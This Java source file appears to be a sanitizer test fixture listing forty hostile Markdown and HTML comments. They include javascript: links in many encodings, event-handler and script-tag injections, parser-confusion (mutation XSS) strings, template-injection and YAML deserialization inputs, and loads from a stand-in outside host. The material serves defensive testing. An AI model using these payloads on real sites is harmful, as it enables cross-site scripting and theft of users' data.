package org.candour.journeys;

import java.util.List;

/** Forty comments by somebody who wants them to be more than words. Each calls {@code pwned(…)} or asks for something of elsewhere.example. */
final class HostileWords {
    static final List<String> ALL = List.of(
            // An address that is a program, in every form in which Markdown has a link.
            "Read [the circular](javascript:pwned(1)) first.",
            "Read [the circular](<javascript:pwned(2)> \"about leave\") first.",
            "Read [the circular][c] first.\n\n[c]: javascript:pwned(3) 'about leave'",
            "Read [circular][] and [circular] first.\n\n[circular]: <JaVaScRiPt:pwned(4)>",
            "Read <javascript:pwned(5)> first.",
            "Look: ![the rota](javascript:pwned(6)) and ![rota][r]\n\n[r]: https://elsewhere.example/6.png",
            "Look: [![the rota](https://elsewhere.example/7.png)](javascript:pwned(7))",
            "> They wrote it down.\n> — The office, javascript:pwned(8)",
            "See the note[^n].\n\n[^n]: [here](javascript:pwned(9)) and <img src=x onerror=pwned(9)>",
            "| who | where |\n|---|---|\n| [a](javascript:pwned(10)) | <svg/onload=pwned(10)> |",
            // The same address in another spelling.
            "[x](&#x6a;&#97;va&#115;cript&colon;pwned(11))",
            "[x](java&Tab;scr&NewLine;ipt:pwned(12))",
            "[x](\u0001javascript:pwned(13)) [y](&#1;javascript:pwned(13))",
            "[x](javascript%3Apwned(14)) [y](%6Aavascript:pwned(14))",
            "[x](java\\script:pwned(15)) [y](\\javascript\\:pwned(15))",
            "[x](vbscript:pwned(16)) [y](livescript:pwned(16)) [z](feed:javascript:pwned(16))",
            "[x](data:text/html;charset=utf-7;base64,PHNjcmlwdD50b3AucHduZWQoMTcpPC9zY3JpcHQ+)",
            "[x](view-source:javascript:pwned(18)) [y](jar:https://elsewhere.example/a!/b) [z](blob:null/18)",
            "[x](//elsewhere.example/19\" onfocus=\"pwned(19)\" autofocus=\") [y](https://elsewhere.example/'onmouseover='pwned(19))",
            "https://elsewhere.example/\"onmouseover=\"pwned(20)\"x= and www.elsewhere.example/<img/src=x onerror=pwned(20)>",
            // Raw HTML, as blocks and in the middle of a line.
            "<script>pwned(21)</script><script src=\"https://elsewhere.example/21.js\"></script>",
            "<img src=x onerror=\"pwned(22)\"><img srcset=\"https://elsewhere.example/22.png 1x\">",
            "Well, <body onload=pwned(23)><iframe srcdoc=\"&lt;script>parent.pwned(23)&lt;/script>\"></iframe> that is that.",
            "<details open ontoggle=pwned(24)><summary>more</summary></details><input autofocus onfocus=pwned(24)>",
            "<style>@import 'https://elsewhere.example/25.css'; body{background:url(https://elsewhere.example/25.png)}</style>",
            "<link rel=stylesheet href=https://elsewhere.example/26.css><link rel=prefetch href=https://elsewhere.example/26>"
                    + "<meta http-equiv=refresh content='0;url=javascript:pwned(26)'>",
            "<base href=\"https://elsewhere.example/\"><form action=\"https://elsewhere.example/27\"><button>Send</button></form>",
            "<object data=\"data:text/html,<script>top.pwned(28)</script>\"></object><embed src=\"https://elsewhere.example/28.swf\">",
            "<video autoplay src=x onerror=pwned(29)></video><audio><source src=x onerror=pwned(29)></audio>",
            // What one parser reads differently from the next.
            "<noscript><p title=\"</noscript><img src=x onerror=pwned(30)>\">",
            "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror=pwned(31)&gt;\">",
            "<svg><style><a id=\"</style><img src=x onerror=pwned(32)>\"></svg>",
            "<svg><animate attributeName=href values=javascript:pwned(33) /><a xlink:href=\"javascript:pwned(33)\"><text y=20>x</text></a></svg>",
            "<title><!--</title><img src=x onerror=pwned(34)>--> <xmp><p title=\"</xmp><img src=x onerror=pwned(34)>\">",
            "```html\" onmouseover=\"pwned(35)\n</code></pre><img src=x onerror=pwned(35)>\n```",
            "`</textarea></script><img src=x onerror=pwned(36)>` </textarea></article></main><img src=x onerror=pwned(36)>",
            // Names that stand in the way of the page's own, and signs that another machine would obey.
            "<a id=c1 name=returnKey>x</a><img name=body><form id=words><input name=formToken></form><p id=pwned onclick=pwned(37)>",
            "{#insert}{pwned(38)}{/insert} {cdi:visit.formToken} {{constructor.constructor('pwned(38)')()}} ${pwned(38)} <%= pwned(38) %> {msg:raw}",
            "---\ntitle: !!javax.script.ScriptEngineManager [x]\nlayout: <img src=x onerror=pwned(39)>\n---\n\nWords, and ]]> <![CDATA[<img src=x onerror=pwned(39)>]]>",
            "\u202E<\u200Bimg src=x onerror=pwned(40)>\u202C \uFF1Cimg src=x onerror=pwned(40)\uFF1E \uD83D\uDE00<img\u00A0src=x\fonerror=pwned(40)>");

    private HostileWords() {}
}
